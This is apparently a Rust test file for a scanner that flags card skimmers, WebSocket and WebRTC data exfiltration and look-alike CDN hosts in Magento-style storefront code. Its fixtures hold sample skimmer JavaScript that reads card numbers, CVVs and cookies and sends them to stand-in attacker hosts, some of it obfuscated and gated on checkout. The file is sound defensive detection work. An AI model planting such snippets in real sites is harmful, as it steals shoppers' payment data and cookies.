//! Skimmers, data channels and look-alike hosts.

use super::*;

#[test]
fn card_fields_sent_to_a_stranger_are_a_skimmer() {
    let js = "document.addEventListener('change', function () {\n\
              var n = document.querySelector('[name=\"payment[cc_number]\"]').value;\n\
              var c = document.getElementById('cc_cid').value;\n\
              fetch('https://cdn-assets-stats.top/c', {method: 'POST', body: n + c});\n\
              });\n";
    let sink = scan(
        &[("view/frontend/web/js/a.js", js)],
        "view/frontend/web/js/a.js",
    );
    assert_eq!(hits(&sink.findings), [("malware-js-skimmer", 4)]);
    assert_eq!(
        grade(&sink.findings[0]),
        (Severity::Critical, Confidence::High)
    );
    assert_eq!(hosts(&sink), ["cdn-assets-stats.top"]);
}

#[test]
fn a_hidden_beacon_gated_on_checkout_is_a_skimmer_and_its_host_a_lookalike() {
    let js = "if (window.location.href.indexOf(atob('Y2hlY2tvdXQ=')) > -1) {\n\
              var f = jQuery('form').serialize();\n\
              var i = new Image();\n\
              i.src = 'https://' + '\\x6a\\x71\\x75\\x65\\x72\\x79-cdn.top' + '/p?d=' + btoa(f);\n\
              }\n";
    let findings = scan_one("view/frontend/web/js/a.js", js);
    assert_eq!(
        hits(&findings),
        [("malware-js-skimmer", 4), ("malware-lookalike-host", 4)]
    );
    let lookalike = only(&findings, "malware-lookalike-host");
    assert_eq!(grade(lookalike), (Severity::Critical, Confidence::High));
    assert!(lookalike.message.contains("jquery-cdn.top"));
}

#[test]
fn an_xhr_post_of_the_cvv_inside_a_template_is_a_skimmer() {
    let phtml = "<form id=\"co-payment-form\"></form>\n\
                 <script>\n\
                 var x = new XMLHttpRequest();\n\
                 x.open('POST', 'https://metrics.example-collect.test/i');\n\
                 x.send(jQuery('#authorizenet_cc_cid').val());\n\
                 </script>\n";
    let sink = scan(
        &[("view/frontend/templates/x.phtml", phtml)],
        "view/frontend/templates/x.phtml",
    );
    assert_eq!(hits(&sink.findings), [("malware-js-skimmer", 4)]);
    assert_eq!(hosts(&sink), ["metrics.example-collect.test"]);
}

#[test]
fn card_data_to_a_payment_provider_or_the_store_is_not_a_skimmer() {
    let js = "var n = $('#stripe_cc_number').val();\n\
              $.post('https://api.stripe.com/v1/tokens', {number: n});\n\
              $.ajax({url: url.build('vendor/pay/save'), data: {cvv: $('#cc_cid').val()}});\n\
              fetch('/rest/V1/carts/mine/payment-information', {body: n});\n";
    assert_eq!(hits(&scan_one("view/frontend/web/js/pay.js", js)), []);
}

#[test]
fn card_data_to_the_modules_own_gateway_is_not_a_skimmer() {
    let js = "var n = document.getElementById('directcard_cc_number').value;\n\
              fetch('https://api.directcard.test/tokenize', {method: 'POST', body: n});\n";
    let config = "<config><default><payment><directcard>\
                  <gateway_url>https://api.directcard.test/</gateway_url>\
                  </directcard></payment></default></config>";
    let files = [
        ("view/frontend/web/js/pay.js", js),
        ("etc/config.xml", config),
    ];
    let sink = scan(&files, "view/frontend/web/js/pay.js");
    assert_eq!(hits(&sink.findings), []);
    assert_eq!(hosts(&sink), ["api.directcard.test"]);
}

#[test]
fn card_data_to_a_computed_url_is_worth_a_look() {
    let js = "var n = document.getElementById('cc_number').value;\n\
              $.ajax({url: config.endpoint, type: 'POST', data: {n: n}});\n";
    let findings = scan_one("view/frontend/web/js/pay.js", js);
    assert_eq!(hits(&findings), [("malware-js-skimmer", 2)]);
    assert_eq!(grade(&findings[0]), (Severity::Medium, Confidence::Low));
}

#[test]
fn a_library_naming_card_fields_far_from_its_script_loader_is_quiet() {
    let js = "function mount(el) { return el.querySelector('[name=\"cardNumber\"]'); }\n\
              function load(url) {\n\
                  var s = document.createElement('script');\n\
                  s.src = url;\n\
                  document.head.appendChild(s);\n\
              }\n";
    assert_eq!(hits(&scan_one("view/base/web/js/sdk.js", js)), []);
}

#[test]
fn card_field_names_in_configuration_are_not_reads() {
    let js = "return { method: this.item.method, additional_data: {\n\
              'cc_number': this.creditCardNumber(), 'cc_cid': this.creditCardVerificationNumber() } };\n\
              fetch('https://api.example-shipping.test/rates');\n";
    assert_eq!(hits(&scan_one("view/frontend/web/js/cc.js", js)), []);
}

#[test]
fn a_websocket_carrying_cookies_to_a_literal_host_is_exfiltration() {
    let js = "var ws = new WebSocket('wss://ws.metrics-collector.top/s');\n\
              ws.onopen = function () { ws.send(document.cookie); };\n";
    let findings = scan_one("view/frontend/web/js/a.js", js);
    assert_eq!(hits(&findings), [("malware-websocket-exfiltration", 1)]);
    assert_eq!(grade(&findings[0]), (Severity::High, Confidence::Medium));
}

#[test]
fn a_webrtc_data_channel_is_exfiltration() {
    let js = "var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:relay.example-rtc.test:3478'}]});\n\
              var ch = pc.createDataChannel('d');\n\
              ch.onopen = function () { ch.send(JSON.stringify(customerData.get('customer')())); };\n";
    let findings = scan_one("view/frontend/web/js/a.js", js);
    assert_eq!(hits(&findings), [("malware-websocket-exfiltration", 1)]);
    assert!(findings[0].message.contains("relay.example-rtc.test"));
}

#[test]
fn a_chat_websocket_that_reads_nothing_from_the_page_is_not_exfiltration() {
    let js = "var ws = new WebSocket('wss://chat.example-support.test/ws');\n\
              ws.send(JSON.stringify({type: 'hello'}));\n";
    assert_eq!(hits(&scan_one("view/frontend/web/js/chat.js", js)), []);
}

#[test]
fn lookalike_hosts_are_found_in_templates_scripts_and_php() {
    let phtml = "<script src=\"https://jquery-cdn.top/jquery.min.js\"></script>\n";
    let sink = scan(
        &[("view/frontend/templates/head.phtml", phtml)],
        "view/frontend/templates/head.phtml",
    );
    assert_eq!(hits(&sink.findings), [("malware-lookalike-host", 1)]);
    assert_eq!(hosts(&sink), ["jquery-cdn.top"]);

    let js = "var h = String.fromCharCode(103,111,111,103,108,101,45,97,110,97,105,121,116,105,99,115,46,99,111,109);\n";
    let findings = scan_one("view/frontend/web/js/a.js", js);
    assert_eq!(hits(&findings), [("malware-lookalike-host", 1)]);
    assert_eq!(findings[0].confidence, Confidence::High);

    let php = "<?php\n$s = '<script src=\"https://magento-analytics.com/a.js\"></script>';\n";
    assert_eq!(
        hits(&scan_one("Setup/Patch/Data/AddHead.php", php)),
        [("malware-lookalike-host", 2)]
    );
}

#[test]
fn real_cdn_and_analytics_hosts_are_not_lookalikes() {
    let phtml = "<script src=\"https://code.jquery.com/jquery-3.7.1.min.js\"></script>\n\
                 <script src=\"https://www.google-analytics.com/analytics.js\"></script>\n\
                 <link href=\"https://fonts.googleapis.com/css?family=Inter\" rel=\"stylesheet\">\n";
    let findings = scan_one("view/frontend/templates/head.phtml", phtml);
    assert!(
        findings.iter().all(|f| f.code != "malware-lookalike-host"),
        "{findings:#?}"
    );
}
